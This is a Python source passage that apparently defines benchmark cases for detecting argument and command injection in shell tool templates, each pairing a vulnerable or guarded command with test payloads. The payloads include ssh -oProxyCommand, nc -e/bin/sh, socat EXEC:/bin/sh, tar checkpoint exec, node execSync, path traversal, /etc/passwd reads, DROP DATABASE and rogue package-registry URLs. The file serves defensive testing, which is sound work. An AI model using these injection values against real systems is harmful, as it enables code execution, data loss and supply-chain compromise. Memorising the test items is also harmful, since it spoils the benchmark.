T(M, "docs_build", "broken", ["cd docs", "make html PROJECT=@project@"], "Build the docs for a project name.",
  setup="mkdir -p docs; printf 'html:\\n\\t@echo built\\n' > docs/Makefile; rm -f Makefile", benign={"project": "demo"}, check="'built' not in c.out and 'make' in c.out",
  idiom="cd in step 0 does not carry to step 1 (each step is its own $( ) subshell)", progs=["make"])
T(M, "mkdocs_serve_port", "safe", "[[ @port@ =~ ^[0-9]{4,5}$ ]] || exit 2; timeout 2 mkdocs serve -a 127.0.0.1:@port@", "Preview docs on a local port.",
  benign={"port": "8000"}, progs=["mkdocs", "timeout"])
T(M, "word_count_doc", "safe", "pandoc -t plain -- @src@ | wc -w", "Count words of a document.", progs=["pandoc", "wc"])

# ---------------- backupops: archives, compression, backups ----------------
M = "backupops"
T(M, "extract_member", "exec", "tar -xf release.tar -C extracted @member@ && ls extracted", "Extract one member of release.tar into extracted/.",
  setup="tar -cf release.tar README.md data.csv", payload={"member": "--to-command=touch {C}"}, idiom="member as --to-command", progs=["tar"])
T(M, "extract_member_safe", "safe", "tar -xf release.tar -C extracted -- @member@ && ls extracted", "Extract one member of release.tar into extracted/.",
  setup="tar -cf release.tar README.md data.csv", extra=["--to-command=touch {C}", "--checkpoint-action=exec=touch {C}", "-C/tmp"], idiom="-- before member", progs=["tar"])
T(M, "extract_to", "write", "mkdir -p \"extracted/@dest@\" && tar -xf release.tar -C \"extracted/@dest@\" && echo ok", "Extract release.tar into extracted/<dest>.",
  setup="tar -cf release.tar README.md", payload={"dest": "../../../../../../../tmp/blindL_w_{id}"}, idiom="traversal in -C dir", progs=["tar", "mkdir"])
T(M, "pack_dir", "broken", "tar -czf \"backups/site-$(date +%F).tgz\" -C @dir@ && ls backups", "Archive a directory into backups/.",
  benign={"dir": "template"}, check="'empty archive' in c.out or 'Cowardly' in c.out", idiom="no member list: tar refuses every input", progs=["tar", "date"])
T(M, "pack_dir_ok", "safe", "tar -czf \"backups/site-$(date +%F).tgz\" -C template -- @member@ && tar -tzf backups/*.tgz", "Archive one member of template/ into backups/.",
  benign={"member": "file.txt"}, extra=["--to-command=touch {C}", "--checkpoint=1 --checkpoint-action=exec=touch {C}", "--use-compress-program=touch {C}"], progs=["tar", "date"])
T(M, "unzip_site", "write", "unzip -o -q bundle.zip -d \"site/@sub@\" && ls site", "Unpack bundle.zip into site/<sub>.",
  setup="zip -q bundle.zip README.md", payload={"sub": "../../../../../../../tmp/blindL_w_{id}"}, idiom="unzip -d traversal", progs=["unzip", "zip"])
T(M, "unzip_site_base", "split", "unzip -o -q bundle.zip -d \"site/$(basename -- \"@sub@\")\" && ls site", "Unpack bundle.zip into site/<basename of sub>.",
  setup="zip -q bundle.zip README.md", payload={"sub": "new site"}, check="os.path.isdir(os.path.join(c.D,'site','new')) and not os.path.isdir(os.path.join(c.D,'site','new site'))",
  idiom="nested quotes inside $( ) in dq: tracker pairs its quotes with the author's, value left unquoted", progs=["unzip", "basename"])
T(M, "compress_log", "write", "gzip -c access.log > \"archive/@date@.log.gz\" && ls archive", "Compress access.log into archive/<date>.log.gz.",
  payload={"date": "../../../../../../../tmp/blindL_w_{id}"}, progs=["gzip"])
T(M, "compress_log_checked", "safe", "[[ @date@ =~ ^[0-9]{4}-[0-9]{2}-[0-9]{2}$ ]] || { echo 'YYYY-MM-DD' >&2; exit 2; }; gzip -c access.log > \"archive/@date@.log.gz\" && ls archive",
  "Compress access.log into archive/<date>.log.gz.", extra=["2024-01-01/../../../../../tmp/blindL_w_{id}"], progs=["gzip"])
T(M, "xz_file", "option", "xz -T0 -k @file@ && ls", "Compress a file with xz, keeping the original.",
  payload={"file": "--files=/tmp/blindL_list_{id}"}, setup="echo README.md > /tmp/blindL_list_$(basename $PWD | cut -d_ -f2)",
  check="os.path.exists(os.path.join(c.D,'README.md.xz'))", idiom="file as --files (reads a list of files to compress)", progs=["xz"])
T(M, "disk_image", "write", "dd if=/dev/zero of=\"disks/@name@.img\" bs=1k count=4 status=none && ls disks", "Create a 4 KiB blank disk image.",
  payload={"name": "../../../../../../../tmp/blindL_w_{id}"}, idiom="dd of= traversal", progs=["dd"])
T(M, "marker_done", "write", "touch \"markers/@job@.done\" && ls markers", "Mark a backup job as done.",
  payload={"job": "../../../../../../../tmp/blindL_w_{id}"}, progs=["touch"])
T(M, "marker_done_safe", "safe", "case @job@ in *[!A-Za-z0-9_-]*|'') echo 'invalid job' >&2; exit 2;; esac; touch \"markers/@job@.done\" && ls markers",
  "Mark a backup job as done.", progs=["touch"], idiom="case negated class guard")
T(M, "marker_sed_guard", "write", "j=$(printf '%s' @job@ | sed 's#\\.\\./##g'); touch \"markers/${j:?}.done\" && ls markers", "Mark a backup job as done (../ stripped).",
  payload={"job": "....//....//....//....//....//....//....//tmp/blindL_w_{id}"}, idiom="non-recursive ../ stripping", progs=["sed", "touch"])
T(M, "restic_snap", "option", "restic -r /srv/restic backup @path@ --tag nightly", "Back up a path to the local restic repository.",
  payload={"path": "--repo=sftp:attacker@127.0.0.1:/r"}, check="'--repo=sftp:attacker@127.0.0.1:/r' in c.log('restic')", progs=["restic"])
T(M, "restic_snap_safe", "safe", "restic -r /srv/restic backup --tag nightly -- @path@", "Back up a path to the local restic repository.", progs=["restic"])
T(M, "rclone_sync", "exec", "echo @remote@ | xargs -I{} sh -c 'rclone sync ./backups {} --dry-run'", "Dry-run sync backups/ to an rclone remote.",
  payload={"remote": "r:x; touch {C} #"}, check="c.canary()", idiom="xargs -I{} inside sh -c", progs=["rclone", "xargs", "sh"])
T(M, "borg_create", "safe", "borg create --stats \"/srv/borg::{hostname}-@label@\" -- ./backups", "Create a borg archive with a label.", progs=["borg"])

# ---------------- shellkit: shell builtins and idioms ----------------
M = "shellkit"
T(M, "set_setting", "exec", "declare @key@=@value@; declare -p @key@", "Set a named setting for the session and show it.",
  benign={"key": "mode", "value": "fast"}, payload={"key": "a[$(touch {C})]"}, idiom="declare with a user-chosen name (array subscript evaluated)", progs=["declare"])
T(M, "set_label", "safe", "declare -- label=@value@; printf 'label=%s\\n' \"${label:-}\"", "Set the session label and show it.",
  idiom="declare with fixed name; ${label:-} avoids client substitution", progs=["declare", "printf"])
T(M, "add_minutes", "exec", "echo $(( @minutes@ * 60 ))", "Convert minutes to seconds.", payload={"minutes": "a[$(touch {C})]"}, idiom="$(( )) arithmetic", progs=["bash"])
T(M, "add_minutes_checked", "safe", "[[ @minutes@ =~ ^[0-9]{1,6}$ ]] || { echo 'integer minutes' >&2; exit 2; }; echo $(( @minutes@ * 60 ))", "Convert minutes to seconds.",
  extra=["a[$(touch {C})]", "1+a[$(touch {C})]"], idiom="regex guard before arithmetic", progs=["bash"])
T(M, "retry_count", "exec", "let \"tries = @n@ + 1\"; echo \"will try ${tries:-0} times\"", "Show how many attempts a retry count means.",
  payload={"n": "a[$(touch {C})]"}, idiom="let arithmetic", progs=["let"])
T(M, "threshold_check", "exec", "test @value@ -gt 90 2>/dev/null && echo ALERT || [[ @value@ -gt 90 ]] && echo ALERT; echo checked", "Alert if a percentage is above 90.",
  payload={"value": "x[$(touch {C})]"}, idiom="[[ -gt ]] arithmetic", progs=["test", "[["])
T(M, "cleanup_trap", "exec", "trap \"rm -rf /tmp/build-@job@\" EXIT; mkdir -p /tmp/build-@job@ && echo building", "Run a build in a scratch dir removed at exit.",
  payload={"job": "x; touch {C}"}, idiom="trap string expanded at set time, evaluated at exit", progs=["trap", "rm", "mkdir"])
T(M, "cleanup_trap_safe", "safe", "d=$(mktemp -d); trap 'rm -rf -- \"${d:?}\"' EXIT; printf '%s\\n' @job@ > \"${d:?}/job\"; cat \"${d:?}/job\"", "Run a build in a scratch dir removed at exit.",
  idiom="trap in single quotes, value never in it", progs=["trap", "mktemp"])
T(M, "load_env_line", "exec", "source <(printf 'export %s\\n' @assignment@); env | grep -c '^APP_' || true", "Load one APP_ setting (KEY=value) into the environment.",
  payload={"assignment": "APP_X=1; touch {C}"}, idiom="source <(printf) of a value", progs=["source", "printf", "env", "grep"])
T(M, "load_env_q", "safe", "[[ @key@ =~ ^APP_[A-Z0-9_]+$ ]] || exit 2; export @key@=@value@; env | grep -c '^APP_' || true", "Set one APP_ variable.",
  benign={"key": "APP_MODE", "value": "x"}, idiom="export NAME=value after name regex", progs=["export", "env"])
T(M, "run_with_env", "exec", "env @assignment@ ./run.sh", "Run ./run.sh with one extra environment assignment (KEY=value).",
  setup="printf '#!/bin/sh\\necho ran\\n' > run.sh; chmod +x run.sh", benign={"assignment": "A=1"}, payload={"assignment": "-Stouch {C}"},
  idiom="env -S from option position", progs=["env"])
T(M, "run_with_env_checked", "exec", "[[ @assignment@ == [A-Z]*=* ]] || { echo 'KEY=value required' >&2; exit 2; }; env -- @assignment@ ./run.sh",
  "Run ./run.sh with one extra environment assignment (KEY=value).", setup="printf '#!/bin/bash\\necho ran\\n' > run.sh; chmod +x run.sh",
  payload={"assignment": "BASH_ENV=$(touch {C})"}, idiom="guard + env -- still lets BASH_ENV (expanded by bash) through", progs=["env", "bash"])
T(M, "eval_format", "exec", "printf -v cmd 'du -sh %s' @dir@; eval \"${cmd:?}\"", "Disk usage of a directory.",
  payload={"dir": ".; touch {C}"}, idiom="printf -v then eval", progs=["printf", "eval", "du"])
T(M, "eval_format_q", "safe", "printf -v cmd 'du -sh -- %q' @dir@; eval \"${cmd:?}\"", "Disk usage of a directory.",
  idiom="printf %q before eval", progs=["printf", "eval", "du"])
T(M, "mapfile_lines", "broken", "mapfile -t lines < @file@; echo \"$lines lines read\"", "Count lines read from a file.",
  benign={"file": "data.csv"}, check="'lines' in c.exc", idiom="$lines client-substituted", progs=["mapfile"])
T(M, "timeout_run", "exec", "timeout 10 bash -c 'echo checking \"@host@\"; getent hosts \"@host@\" || echo unknown'", "Resolve a host name with a timeout.",
  payload={"host": "$(touch {C})"}, idiom="dq inside sq of bash -c: tracker reopens quotes, inner shell re-evaluates", progs=["timeout", "bash", "getent"])
T(M, "timeout_run_pos", "safe", "timeout 10 bash -c 'getent hosts -- \"${1:?}\" || echo unknown' _ @host@", "Resolve a host name with a timeout.",
  extra=["--help"], idiom="positional argument to bash -c", progs=["timeout", "bash", "getent"], nostub=True)
T(M, "flock_job", "exec", "flock -n /tmp/blindL_lock_jobs -c \"echo running @job@\"", "Run a job under a lock file.",
  payload={"job": "x; touch {C}"}, idiom="flock -c command string", progs=["flock"])
T(M, "getopts_wrapper", "broken", "set -- @args@; while getopts 'v' opt; do case $opt in v) verbose=1;; esac; done; echo done", "Parse flags.",
  benign={"args": "-v"}, check="'opt' in c.exc", idiom="$opt client-substituted", progs=["getopts"])
T(M, "complete_words", "safe", "compgen -W 'build test lint docs' -- @prefix@", "Complete a target name prefix.", progs=["compgen"])
T(M, "which_tool", "safe", "command -v -- @name@ || echo 'not installed'", "Path of an installed program.", progs=["command"])

# ---------------- netdiag: network diagnostics (local only) ----------------
M = "netdiag"
T(M, "ssh_uptime", "exec", "ssh -o BatchMode=yes -o ConnectTimeout=3 @host@ uptime", "Uptime of a host over SSH.",
  payload={"host": "-oProxyCommand=touch {C}"}, idiom="host as -o ProxyCommand", progs=["ssh"])
T(M, "ssh_uptime_checked", "safe", "[[ @host@ =~ ^[a-z0-9][a-z0-9.-]*$ ]] || { echo 'invalid host' >&2; exit 2; }; ssh -o BatchMode=yes -o ConnectTimeout=3 @host@ uptime",
  "Uptime of a host over SSH.", extra=["-oProxyCommand=touch {C}", "-oLocalCommand=touch {C}"], idiom="host regex guard", progs=["ssh"])
T(M, "push_file_safe", "safe", "scp -q -o BatchMode=yes -- @src@ deploy@127.0.0.1:/srv/drop/ 2>&1 | head -n 2; echo done", "Copy a local file to the drop host.",
  extra=["-oProxyCommand=touch {C}", "-S/bin/sh"], idiom="-- before source", progs=["scp"], nostub=True)
T(M, "tls_probe", "safe", "echo | timeout 5 openssl s_client -connect 127.0.0.1:@port@ -brief 2>&1 | head -n 3", "Probe TLS on a local port.",
  extra=["1 -writerand {W}", "-msgfile {W}"], idiom="value glued to -connect's argument", progs=["openssl", "timeout"])
T(M, "dns_lookup", "option", "dig +short @name@ A", "Resolve A records of a name.", payload={"name": "-f/etc/passwd"},
  check="c.log('dig')[1] == '-f/etc/passwd'", idiom="name as dig -f batch file", progs=["dig"])
T(M, "dns_lookup_safe", "safe", "dig +short -q @name@ -t A", "Resolve A records of a name.", idiom="value is -q's argument", progs=["dig"], nostub=True,
  viol="c.log('dig')[2:3] != [c.log('dig')[2]] or (len(c.log('dig'))>2 and c.log('dig')[1] != '-q')")
T(M, "port_check", "option", "nc -z -w 2 127.0.0.1 @port@ && echo open || echo closed", "Check whether a local TCP port is open.",
  payload={"port": "-e/bin/sh"}, check="c.log('nc')[4] == '-e/bin/sh'", idiom="port as nc -e", progs=["nc"])
T(M, "port_check_safe", "safe", "[[ @port@ =~ ^[0-9]{1,5}$ ]] || { echo 'port number' >&2; exit 2; }; nc -z -w 2 127.0.0.1 @port@ && echo open || echo closed", "Check whether a local TCP port is open.",
  extra=["-e/bin/sh", "80 -e /bin/sh"], progs=["nc"])
T(M, "forward_port", "option", "socat TCP-LISTEN:@port@,fork,reuseaddr TCP:127.0.0.1:8080", "Forward a local port to 8080.",
  payload={"port": "9000,fork EXEC:/bin/sh"}, check="any('EXEC:/bin/sh' in a for a in c.log('socat'))", progs=["socat"])
T(M, "curl_health", "split", "curl -s -o /dev/null -w '%{http_code}\\n' $(printf 'http://127.0.0.1:%s/health' @port@)", "HTTP status of a local health endpoint.",
  payload={"port": "9 file:///etc/hostname -o /tmp/blindL_w_{id} http://127.0.0.1:9"}, check="c.anyw()", idiom="unquoted $( ) in a URL", progs=["curl", "printf"])
T(M, "curl_health_q", "safe", "curl -s -o /dev/null -w '%{http_code}\\n' \"http://127.0.0.1:@port@/health\"", "HTTP status of a local health endpoint.",
  extra=["9/ -o {W}", "9 -K /etc/passwd"], progs=["curl"])
T(M, "ssh_host_cfg", "broken", "ssh -G @host@ | grep -E '^(hostname|user|port) ' | awk '{print $1\"=\"$2}'", "Effective SSH config of a host.",
  benign={"host": "example"}, check="'1' in c.exc or 'not found' in c.exc.lower()", idiom="awk $1/$2 client-substituted", progs=["ssh", "grep", "awk"])
T(M, "ssh_host_cfg_ok", "safe", "ssh -G -- @host@ | grep -E '^(hostname|user|port) '", "Effective SSH config of a host.", progs=["ssh", "grep"],
  extra=["-oProxyCommand=touch {C}", "-F/etc/passwd"])
T(M, "whois_local", "split", "getent hosts $(echo @name@ | tr -d '\\r')", "Resolve a name via NSS.",
  payload={"name": "localhost localhost"}, check="c.out.count('localhost') >= 2", idiom="unquoted $( )", progs=["getent", "tr"])

# ---------------- pkgmgr: package managers of several languages ----------------
M = "pkgmgr"
T(M, "npm_add", "option", "npm install --save-exact @pkg@", "Add an npm dependency (exact version).",
  payload={"pkg": "--registry=http://127.0.0.1:9/"}, check="c.log('npm')[2] == '--registry=http://127.0.0.1:9/'", progs=["npm"])
T(M, "npm_add_checked", "option", "[[ @pkg@ =~ ^(@[a-z0-9-]+/)?[a-z0-9._-]+(@[0-9A-Za-z.^~-]+)?$ ]] || { echo 'invalid package spec' >&2; exit 2; }; npm install --save-exact @pkg@",
  "Add an npm dependency (exact version).", payload={"pkg": "--global"}, check="c.log('npm')[2] == '--global'", idiom="guard allows leading '-' (character class includes -)", progs=["npm"])
T(M, "npm_run", "exec", "node -e \"const p=require('./package.json'); console.log(p.scripts['@script@'] || 'no such script')\"", "Show the command behind an npm script.",
  setup="echo '{\"scripts\":{\"test\":\"jest\"}}' > package.json", payload={"script": "x'] + require('child_process').execSync('touch {C}') + p.scripts['y"},
  idiom="node -e code string", progs=["node"])
T(M, "npm_run_argv", "exec", "node -e 'const p=require(\"./package.json\"); console.log(p.scripts[process.argv[1]] || \"no such script\")' @script@", "Show the command behind an npm script.",
  setup="echo '{\"scripts\":{\"test\":\"jest\"}}' > package.json", payload={"script": "--eval=require('child_process').execSync('touch {C}')"}, idiom="argv after node -e is still parsed as node options (--eval overrides)", progs=["node"])
T(M, "pip_add", "option", "pip install --no-deps @req@", "Install one Python requirement without dependencies.",
  payload={"req": "--index-url=http://127.0.0.1:9/simple"}, check="c.log('pip')[2].startswith('--index-url=')", progs=["pip"])
T(M, "pip_add_safe", "safe", "pip install --no-deps -- @req@", "Install one Python requirement without dependencies.", progs=["pip"])
T(M, "pin_requirement", "option", "printf '%s==%s\\n' @pkg@ @version@ >> requirements.txt && pip install -r requirements.txt",
  "Pin a package version in requirements.txt and install.", benign={"pkg": "requests", "version": "2.31.0"},
  payload={"version": "2.31.0\n--index-url http://127.0.0.1:9/simple"}, check="'--index-url http://127.0.0.1:9/simple' in c.read(os.path.join(c.D,'requirements.txt')).splitlines()",
  idiom="newline in value adds a pip option line to requirements.txt", progs=["printf", "pip"])
T(M, "cargo_add", "option", "cargo add @crate@", "Add a Rust dependency.", payload={"crate": "--git=http://127.0.0.1:9/evil.git"},
  check="c.log('cargo')[1].startswith('--git=')", progs=["cargo"])
T(M, "cargo_add_safe", "safe", "cargo add -- @crate@", "Add a Rust dependency.", progs=["cargo"])
T(M, "gem_install", "split", "gem install $(echo @gem@ | tr -d ' ,;')", "Install a gem.", payload={"gem": "rails\t--source\thttp://127.0.0.1:9"},
  check="'--source' in c.log('gem')", idiom="tr strips spaces but not tabs; unquoted $( ) splits on tabs", progs=["gem", "tr"])
T(M, "composer_req", "safe", "composer require --no-interaction -- @pkg@", "Require a PHP package.", progs=["composer"])
T(M, "poetry_add", "option", "poetry add @pkg@ --lock", "Add a dependency with Poetry.", payload={"pkg": "--source=evil"},
  check="c.log('poetry')[1] == '--source=evil'", progs=["poetry"])
T(M, "uv_pip", "option", "uv pip install --no-deps \"@pkg@\"; uv pip list --format=json | head -c 200", "Install a package into the uv venv.",
  payload={"pkg": "--index-url=http://127.0.0.1:9/simple"}, check="'--index-url=http://127.0.0.1:9/simple' in c.log('uv')", idiom="double quotes do not stop option parsing", progs=["uv"])
T(M, "apt_show", "safe", "apt-cache policy -- @pkg@ | head -n 5", "Candidate version of a Debian package.", progs=["apt-cache"])
T(M, "go_get", "broken", "cd $GOPATH/src/app && go get @module@", "Add a Go module dependency.", benign={"module": "golang.org/x/text"},
  check="'GOPATH' in c.exc", idiom="$GOPATH expected from the shell", progs=["go"])
T(M, "mvn_version", "exec", "mvn -q versions:set -DnewVersion=@version@ && sh -c \"echo set to @version@\"", "Set the Maven project version.",
  payload={"version": "1.0; touch {C}"}, idiom="sh -c with dq placeholder", progs=["mvn", "sh"])
T(M, "pnpm_why", "split", "pnpm why $(printf %s @pkg@)", "Explain why a package is installed.", payload={"pkg": "react --global"},
  check="'--global' in c.log('pnpm')", progs=["pnpm"])
T(M, "yarn_why", "safe", "yarn why -- @pkg@", "Explain why a package is installed.", progs=["yarn"])

# ---------------- dbadmin: database administration ----------------
M = "dbadmin"
T(M, "pg_query_db", "safe", "psql -h 127.0.0.1 -U app -d @db@ -At -c 'select count(*) from pg_stat_activity'", "Active connections of a database.",
  nostub=True, viol="c.log('psql')[4] != '-d'", idiom="value is -d's argument", progs=["psql"])
T(M, "pg_dump_db", "option", "pg_dump -h 127.0.0.1 -U app @db@ | gzip > dumps/db.sql.gz", "Dump a database to dumps/db.sql.gz.",
  setup="mkdir -p dumps", payload={"db": "--file=/tmp/blindL_w_{id}"}, check="c.log('pg_dump')[4] == '--file=/tmp/blindL_w_%d' % c.id", progs=["pg_dump", "gzip"])
T(M, "pg_dump_db_safe", "safe", "pg_dump -h 127.0.0.1 -U app --dbname=@db@ | gzip > dumps/db.sql.gz", "Dump a database to dumps/db.sql.gz.",
  setup="mkdir -p dumps", progs=["pg_dump", "gzip"])
T(M, "mysql_tables", "option", "mysql -h 127.0.0.1 -u report @db@ -e 'SHOW TABLES'", "List tables of a MySQL database.",
  payload={"db": "--init-command=DROP DATABASE prod"}, check="c.log('mysql')[4].startswith('--init-command=')", progs=["mysql"])
T(M, "mysql_tables_safe", "safe", "mysql -h 127.0.0.1 -u report -e 'SHOW TABLES' -- @db@", "List tables of a MySQL database.", progs=["mysql"])
T(M, "redis_get", "split", "redis-cli -h 127.0.0.1 GET $(printf '%s' @key@)", "Read one Redis key.", payload={"key": "session:1 FLUSHALL"},
  check="'FLUSHALL' in c.log('redis-cli')", idiom="unquoted $( )", progs=["redis-cli"])
T(M, "redis_get_safe", "safe", "redis-cli -h 127.0.0.1 GET @key@", "Read one Redis key.", idiom="bare placeholder is one argv after the command name", progs=["redis-cli"], nostub=True,
  viol="c.log('redis-cli')[2] != 'GET'")
T(M, "mongo_dump", "write", "mongodump --quiet --db=appdb --out=\"dumps/@label@\"", "Dump appdb into dumps/<label>.",
  payload={"label": "../../../../etc/cron.hourly"}, check="'--out=dumps/../../../../etc/cron.hourly' in c.log('mongodump')", progs=["mongodump"])
T(M, "sqlite_vacuum", "write", "sqlite3 app.db \"VACUUM INTO 'backups/@name@.db'\" && ls backups", "Write a compacted copy of app.db into backups/.",
  setup="sqlite3 app.db 'create table t(x)'", payload={"name": "../../blindL_w_{id}"}, idiom="VACUUM INTO path", progs=["sqlite3"])
T(M, "sqlite_vacuum_safe", "safe", "[[ @name@ =~ ^[A-Za-z0-9_-]+$ ]] || exit 2; sqlite3 app.db \"VACUUM INTO 'backups/@name@.db'\" && ls backups", "Write a compacted copy of app.db into backups/.",
  setup="sqlite3 app.db 'create table t(x)'", extra=["x.db'; ATTACH '/tmp/blindL_w_{id}' AS y; --"], progs=["sqlite3"])
# ---------------- monitor: services, logs and schedules ----------------
M = "monitor"
T(M, "restart_unit", "option", "sudo -n systemctl restart @unit@ 2>&1 || systemctl restart @unit@", "Restart a systemd unit.",
  payload={"unit": "--host=root@127.0.0.1"}, check="'--host=root@127.0.0.1' in c.log('systemctl')", progs=["systemctl", "sudo"])
T(M, "restart_unit_safe", "safe", "[[ @unit@ =~ ^[a-z0-9@._-]+\\.service$ ]] || { echo 'unit.service required' >&2; exit 2; }; systemctl restart -- @unit@", "Restart a systemd unit.",
  extra=["--host=root@127.0.0.1 x.service"], progs=["systemctl"])
T(M, "cron_line", "write", "printf '%s /usr/local/bin/backup.sh\\n' @schedule@ > \"cron.d/@name@\" && ls cron.d", "Write a cron schedule file for the backup job.",
  setup="mkdir -p cron.d", benign={"schedule": "0 3 * * *", "name": "backup"}, payload={"name": "../../../../../../../tmp/blindL_w_{id}"}, progs=["printf"])
T(M, "rotate_logs", "option", "logrotate -s state/logrotate.status @config@", "Run logrotate with a config file.", payload={"config": "--log=/tmp/blindL_w_{id}"},
  check="c.log('logrotate')[2].startswith('--log=')", progs=["logrotate"])
T(M, "check_rules", "safe", "promtool check rules -- @file@", "Validate a Prometheus rules file.", progs=["promtool"])
T(M, "silence_alert", "split", "amtool silence add alertname=$(echo @alert@) --duration=1h --comment=agent", "Silence an alert for an hour.",
  payload={"alert": "Disk --alertmanager.url=http://127.0.0.1:9"}, check="'--alertmanager.url=http://127.0.0.1:9' in c.log('amtool')", idiom="unquoted $( ) glued to a word", progs=["amtool"])
T(M, "silence_alert_q", "safe", "amtool silence add \"alertname=@alert@\" --duration=1h --comment=agent", "Silence an alert for an hour.", progs=["amtool"],
  nostub=True, viol="len([a for a in c.log('amtool') if a.startswith('alertname=')]) != 1")
T(M, "disk_alert", "broken", "df -P / | tail -1 | awk '{print $5}' | tr -d % | { read -r pct; [ \"$pct\" -gt @limit@ ] && echo ALERT || echo ok; }", "Alert if / usage exceeds a limit.",
  benign={"limit": "90"}, check="'5' in c.exc or 'not found' in c.exc.lower()", progs=["df", "awk", "tr"])
T(M, "top_procs", "safe", "ps -eo pid,comm,%cpu --sort=-%cpu | head -n @count@", "Top processes by CPU.", benign={"count": "5"},
  extra=["--bytes=1", "-c 1"], progs=["ps", "head"], nostub=True, viol="False")

# Preflight steps as published tools often carry them (step 0, output not appended).
_PRE = {"remote_heads": "git", "show_commit": "git", "unique_lines": "sort", "sample_rows": "shuf", "dns_lookup": "dig",
        "cargo_add": "cargo", "poetry_add": "poetry", "check_rules": "promtool", "verify_sig": "cosign", "composer_req": "composer",
        "fingerprint": "openssl", "cert_subject": "openssl", "gcloud_cat": "gcloud", "strip_exif_safe": "exiftool"}
for _t in TOOLS:
    if _t["name"] in _PRE and len(_t["cmds"]) == 1:
        _p = _PRE[_t["name"]]
        _t["cmds"] = [("command -v %s >/dev/null || { echo '%s is not installed' >&2; exit 127; }" % (_p, _p), False)] + _t["cmds"]

# ---------------- additional look-alikes (appended so earlier ids stay stable) ----------------
M = "shellkit"
T(M, "run_with_mode", "safe", "env -- APP_MODE=@mode@ ./run.sh", "Run ./run.sh with APP_MODE set to a mode.",
  setup="printf '#!/bin/bash\\necho ran in $APP_MODE\\n' > run.sh; chmod +x run.sh", extra=["BASH_ENV=$(touch {C})", "-Stouch {C}", "x LD_PRELOAD=/tmp/x.so"],
  idiom="fixed variable name; value cannot choose it", progs=["env", "bash"])
M = "datawr"
T(M, "count_fixed", "safe", "grep -c -F -e @needle@ -- access.log || true", "Count log lines containing a fixed string.",
  extra=["-f/etc/passwd", "--file=/etc/passwd"], idiom="-e before value, -- before files", progs=["grep"])
M = "relops"
T(M, "log_by_author", "safe", "git log --oneline -n 10 --author=@who@", "Last 10 commits by an author.",
  extra=["--output={W}", "x --output={W}"], idiom="value attached to --author=", progs=["git"])
M = "netdiag"
T(M, "resolve_local", "safe", "getent hosts -- @name@ || echo 'not found'", "Resolve a host name via NSS.",
  extra=["localhost localhost", "-s files"], viol="c.out.count('localhost') >= 2", idiom="quoted single operand after --", progs=["getent"])
M = "dbadmin"
T(M, "table_rows", "safe", "[[ @table@ =~ ^[A-Za-z_][A-Za-z0-9_]*$ ]] || { echo 'invalid table name' >&2; exit 2; }\nsqlite3 -readonly app.db \"SELECT count(*) FROM \\\"@table@\\\";\"",
  "Row count of a table in app.db.", setup="sqlite3 app.db 'create table users(x); insert into users values(1)'",
  extra=["users\";\n.shell touch {C}\nSELECT \"", "users; ATTACH '/tmp/blindL_w_{id}' AS x"], idiom="identifier regex guard", progs=["sqlite3"])
M = "mediadoc"
T(M, "render_titled", "safe", "pandoc -s -o site/index.html --metadata=title:@title@ -- README.md", "Render README.md with a page title.",
  idiom="value attached to --metadata=", progs=["pandoc"])
